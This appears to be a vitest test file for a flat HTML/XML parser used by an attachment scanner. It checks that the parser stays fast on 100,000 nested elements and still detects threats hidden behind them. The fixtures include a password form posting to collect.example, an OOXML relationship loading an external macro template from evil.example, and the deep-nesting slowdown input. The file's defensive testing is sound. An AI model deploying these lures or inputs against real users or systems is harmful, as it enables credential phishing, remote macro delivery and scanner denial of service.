import { Parser, type Handler } from 'htmlparser2';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { MAX_OPEN_ELEMENTS, parseFlat } from './flat-parse.js';
import { htmlTags, inspectHtml } from './html.js';
import { readRelationships } from './ooxml.js';

/**
 * htmlparser2 keeps its open elements with Array.unshift: N unclosed elements cost N²/2 moves
 * (100k nested <div> in a 2 MB HTML attachment: 70 s). These tests count, instead of timing:
 * the deepest stack htmlparser2 is made to hold, read from its own instances while they parse.
 */
function deepestStack(run: () => void): number {
  let deepest = 0;
  const proto = Parser.prototype as unknown as { onopentagend(endIndex: number): void };
  const original = proto.onopentagend;
  const spy = vi.spyOn(proto, 'onopentagend').mockImplementation(function (this: { stack: string[] }, endIndex: number) {
    deepest = Math.max(deepest, this.stack.length);
    original.call(this, endIndex);
  });
  try {
    run();
  } finally {
    spy.mockRestore();
  }
  return deepest;
}

/** Every event the handler sees, as text, for comparing two parses. */
function events(): { handler: Partial<Handler>; log: string[] } {
  const log: string[] = [];
  return {
    log,
    handler: {
      onopentag: (name, attribs) => log.push(`<${name} ${JSON.stringify(attribs)}>`),
      ontext: (text) => log.push(`"${text}"`),
      onclosetag: (name) => log.push(`</${name}>`),
    },
  };
}

const OPTIONS = { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true, recognizeSelfClosing: true, recognizeCDATA: true };
const FORM = '<form action="https://collect.example/p"><input type="password" name="p"></form>';

afterEach(() => vi.restoreAllMocks());

describe('parseFlat: htmlparser2 without its quadratic stack', () => {
  it('gives the same events as htmlparser2 on ordinary markup, without a restart', () => {
    const page = `<html><head><title>T &amp; c</title><style>p{color:red}</style></head><body><p>Một <b>hai</b><br>ba<img src="x.png"></p><script>if (a < b) go("<p>")</script>${FORM}<svg><path d="M0"/></svg></body></html>`;
    const flat = events();
    const plain = events();
    expect(parseFlat(page, flat.handler, OPTIONS)).toEqual({ restarts: 0, deepest: 4 });
    const parser = new Parser(plain.handler, OPTIONS);
    parser.write(page);
    parser.end();
    expect(flat.log).toEqual(plain.log);
  });

  it('keeps htmlparser2 at most MAX_OPEN_ELEMENTS deep on 100,000 unclosed elements, and reads what follows them', () => {
    const page = '<div>'.repeat(100_000) + FORM + '<p>after</p>';
    const seen = events();
    let read = { restarts: 0, deepest: 0 };
    const deepest = deepestStack(() => (read = parseFlat(page, seen.handler, OPTIONS)));
    expect(deepest).toBeLessThanOrEqual(MAX_OPEN_ELEMENTS);
    expect(read.deepest).toBe(MAX_OPEN_ELEMENTS);
    expect(read.restarts).toBe(Math.floor(100_000 / MAX_OPEN_ELEMENTS));
    expect(seen.log.filter((e) => e.startsWith('<div')).length).toBe(100_000);
    const form = seen.log.indexOf('<form {"action":"https://collect.example/p"}>');
    expect(seen.log.slice(form, form + 7)).toEqual(['<form {"action":"https://collect.example/p"}>', '<input {"type":"password","name":"p"}>', '</input>', '</form>', '<p {}>', '"after"', '</p>']);
  });

  it('does not restart right after a raw-text element: its text is never read as markup', () => {
    const page = '<div>'.repeat(MAX_OPEN_ELEMENTS - 1) + '<script>var s = "<b>not a tag</b>";</script><i>x</i>';
    const seen = events();
    const read = parseFlat(page, seen.handler, OPTIONS);
    expect(seen.log).toContain('"var s = "<b>not a tag</b>";"');
    expect(seen.log).not.toContain('<b {}>');
    // the restart waits for the next element (<i>): what follows it is read by a new parser
    expect(read.restarts).toBe(1);
    expect(seen.log.slice(-4)).toEqual(['"var s = "<b>not a tag</b>";"', '</script>', '<i {}>', '"x"']);
  });

  it('is bounded the same in XML mode', () => {
    const xml = '<a>'.repeat(50_000) + '<b/>';
    const seen = events();
    const deepest = deepestStack(() => parseFlat(xml, seen.handler, { xmlMode: true }));
    expect(deepest).toBeLessThanOrEqual(MAX_OPEN_ELEMENTS);
    expect(seen.log.filter((e) => e.startsWith('<b'))).toEqual(['<b {}>']);
    expect(seen.log[seen.log.indexOf('<b {}>') + 1]).toBe('</b>');
  });
});

describe('the attachment readers that use it', () => {
  it('an HTML attachment: a password form behind 100,000 open <div>s is seen, htmlparser2 held at most MAX_OPEN_ELEMENTS deep', () => {
    const page = Buffer.from('<html><body>' + '<div>'.repeat(100_000) + FORM);
    let tags: string[] = [];
    const deepest = deepestStack(() => (tags = htmlTags(inspectHtml(page))));
    expect(tags).toEqual(['form', 'password', 'external-action']);
    expect(deepest).toBeLessThanOrEqual(MAX_OPEN_ELEMENTS);
  });

  it('an OOXML relationships part: a relationship behind 100,000 open elements is read, htmlparser2 held at most MAX_OPEN_ELEMENTS deep', () => {
    const rels = Buffer.from(
      '<?xml version="1.0"?><Relationships>' + '<x>'.repeat(100_000) + '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
    );
    let found: ReturnType<typeof readRelationships> = [];
    const deepest = deepestStack(() => (found = readRelationships(rels)));
    expect(found).toEqual([{ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true }]);
    expect(deepest).toBeLessThanOrEqual(MAX_OPEN_ELEMENTS);
  });
});
